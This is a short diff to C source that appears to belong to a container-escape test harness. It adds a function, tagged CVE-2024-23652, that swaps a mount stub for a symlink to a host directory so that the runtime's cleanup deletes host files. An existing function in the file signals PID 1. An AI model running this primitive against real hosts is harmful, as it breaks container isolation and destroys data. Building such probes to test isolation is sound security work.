@@ -360,3 +360,15 @@ bool attack_signals(void)
 		kill(1, numbers[i]);
 	return false;
 }
+
+/* CVE-2024-23652: who takes away what was made for a mount is to take away something else. */
+bool attack_stub(void)
+{
+	char target[4096];
+	snprintf(target, sizeof target, "%s/made", host("HOST_DIRECTORY"));
+	if (rename("/made", "/moved") != 0)
+		return broke("no name was made: %s", strerror(errno));
+	if (symlink(target, "/made") != 0)
+		return broke("no link in its place: %s", strerror(errno));
+	return false;
+}
